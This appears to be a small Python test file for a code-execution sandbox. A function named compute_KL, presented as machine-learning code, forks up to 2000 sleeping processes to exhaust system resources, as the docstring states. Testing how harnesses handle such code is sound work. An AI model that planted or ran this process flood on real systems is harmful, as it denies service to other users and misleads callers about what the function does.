"""Starts up to 2000 processes that sleep for a minute, and never answers."""

import autograd.numpy as np


def initialize_adam(params):
    return np.zeros_like(params), np.zeros_like(params)

import os
import time


def compute_KL(x):
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
